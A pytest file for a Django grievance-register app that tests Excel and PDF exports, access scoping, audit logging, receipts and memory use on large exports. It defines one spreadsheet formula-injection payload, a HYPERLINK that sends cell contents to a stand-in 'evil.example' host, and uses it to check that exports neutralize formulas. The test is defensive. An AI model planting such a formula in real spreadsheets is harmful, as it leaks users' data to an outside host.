"""The register's Excel and PDF files, and the walk-in receipt: content, scope, formula neutralization,
the audit row; the Excel file of 10,000 grievances in bounded memory."""

import io
import os
import tracemalloc

from django.test import Client
from openpyxl import load_workbook

from sangathan.access.models import AuditLog
from sangathan.access.scope import Scope
from sangathan.core.exports import Sheet, xlsx_file
from sangathan.grievances.exports import register_sheet
from sangathan.grievances.models import Grievance
from sangathan.grievances.register import grievance_register
from tests.grievances.helpers import take

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"देखें")'


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def workbook_rows(response) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(body(response)), read_only=False).worksheets[0]
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()], sheet


def test_excel_export_has_the_filtered_rows_as_text_and_is_audited(cell):
    mine = take(cell, subject=FORMULA)
    take(cell, subject="दूसरी शिकायत", mobile="9826012301", kind="administrative",
         department=cell.departments["revenue"])
    other = take(cell, actor="district2_convener", unit="d2a1b1", mobile="9826012300")
    client = client_for(cell["district_convener"])
    response = client.get("/grievances/register.xlsx", {"kind": "organizational"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith('attachment; filename="grievance-register-')
    rows, sheet = workbook_rows(response)
    assert rows[0][:4] == ("ट्रैकिंग कोड", "दर्ज होने की तारीख", "विषय", "शिकायतकर्ता")
    assert [row[0] for row in rows[1:]] == [mine.tracking_code]
    assert rows[1][2] == FORMULA and sheet.cell(row=2, column=3).data_type == "s"  # text, never a formula
    assert rows[1][4] == mine.complainant_mobile
    assert other.tracking_code not in str(rows)
    audit = AuditLog.objects.filter(action=AuditLog.Action.EXPORT).latest("id")
    assert audit.detail["what"] == "grievances" and audit.detail["format"] == "xlsx"
    assert audit.detail["count"] == 1 and audit.detail["filters"]["kind"] == "organizational"


def test_pdf_export_is_a_pdf_with_the_bundled_font(cell):
    take(cell, subject="क्षेत्र में पानी की समस्या")
    response = client_for(cell["district_convener"]).get("/grievances/register.pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    data = body(response)
    assert data.startswith(b"%PDF") and b"NotoSansDevanagari" in data
    audit = AuditLog.objects.filter(action=AuditLog.Action.EXPORT).latest("id")
    assert audit.detail["format"] == "pdf" and audit.detail["count"] == 1


def test_pdf_holds_at_most_the_cap(cell, monkeypatch):
    from sangathan.core import exports

    monkeypatch.setattr(exports, "PDF_MAX_ROWS", 2)
    for n in range(3):
        take(cell, subject=f"शिकायत {n}", mobile=f"98260123{n}7")
    response = client_for(cell["district_convener"]).get("/grievances/register.pdf")
    assert response.status_code == 200 and body(response).startswith(b"%PDF")
    assert AuditLog.objects.filter(action=AuditLog.Action.EXPORT).latest("id").detail["count"] == 2


def test_files_follow_the_readers_reach_and_recusal(cell):
    mine = take(cell)
    named = take(cell, subject="जिला प्रभारी के विरुद्ध", mobile="9826012388",
                 named_person=cell.people["district_incharge"])
    other = take(cell, actor="district2_convener", unit="d2a1b1", mobile="9826012300")
    rows, _sheet = workbook_rows(client_for(cell["district_incharge"]).get("/grievances/register.xlsx"))
    shown = {row[0] for row in rows[1:]}
    assert mine.tracking_code in shown and named.tracking_code not in shown and other.tracking_code not in shown
    assert client_for(cell["mandal_president"]).get("/grievances/register.pdf").status_code == 403
    assert client_for(cell["district_convener"]).get("/grievances/register.csv").status_code == 404
    assert client_for(cell["district_convener"]).get("/grievances/register.xlsx", {"level": "x"}).status_code == 400


def test_receipt_is_printable_scoped_and_audited(cell, settings):
    settings.SANGATHAN_PUBLIC_URL = "https://sangathan.example.org"
    grievance = take(cell, subject="बैठक की सूचना नहीं मिलती")
    client = client_for(cell["district_convener"])
    response = client.get(f"/grievances/{grievance.pk}/receipt/")
    text = response.content.decode()
    assert response.status_code == 200
    assert grievance.tracking_code in text and "बैठक की सूचना नहीं मिलती" in text
    assert "https://sangathan.example.org/status/" in text
    assert grievance.created_at.astimezone().strftime("%d.%m.%Y") in text
    assert "css/register.css" in text and "js/print.js" in text and "data-print" in text
    assert AuditLog.objects.filter(action=AuditLog.Action.GRIEVANCE_VIEW, target_id=grievance.pk).exists()
    assert client_for(cell["district2_convener"]).get(f"/grievances/{grievance.pk}/receipt/").status_code == 404
    assert client.get("/grievances/987654321/receipt/").status_code == 404


def test_receipt_falls_back_to_the_request_host(cell, settings):
    settings.SANGATHAN_PUBLIC_URL = ""
    grievance = take(cell)
    text = client_for(cell["district_convener"]).get(f"/grievances/{grievance.pk}/receipt/").content.decode()
    assert "http://testserver/status/" in text


def test_excel_of_ten_thousand_grievances_in_bounded_memory(cell):
    """The register's workbook for 10,000 grievances: rows are read in chunks and written to disk as they
    come. The peak of Python allocations (tracemalloc) stays far below what the rows would take in memory."""
    base = take(cell)
    Grievance.objects.bulk_create([Grievance(
        tracking_code=f"SG-M{n:05d}", unit=base.unit, unit_path=base.unit_path, district=base.district,
        kind="organizational", channel="phone", subject=f"मंडल {n} में बैठक की सूचना समय पर नहीं मिलती",
        complainant_name=f"रामलाल {n}", complainant_mobile=f"+9198260{n:05d}", created_at=base.created_at)
        for n in range(10_000)], batch_size=2_000)
    grievances = grievance_register(scope=Scope.system())
    tracemalloc.start()
    try:
        path = xlsx_file([register_sheet(grievances, fmt="xlsx")])
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    try:
        sheet = load_workbook(path, read_only=True).worksheets[0]
        assert sum(1 for _row in sheet.iter_rows()) == 10_002  # header + 10,001 grievances
    finally:
        os.unlink(path)
    print(f"\nregister xlsx, 10,001 grievances: tracemalloc peak {peak / 1e6:.1f} MB")
    assert peak < 40e6


def test_sheet_helper_names_and_neutralizes():
    path = xlsx_file([Sheet(title="a/b:c", header=["x"], rows=[["=1+1"], ["+919826012345"], [5]]),
                      Sheet(title="a/b:c", header=["y"], rows=[])])
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["a b c", "a b c 2"]
    sheet = workbook.worksheets[0]
    assert sheet["A2"].value == "=1+1" and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "+919826012345" and sheet["A4"].value == 5
    os.unlink(path)
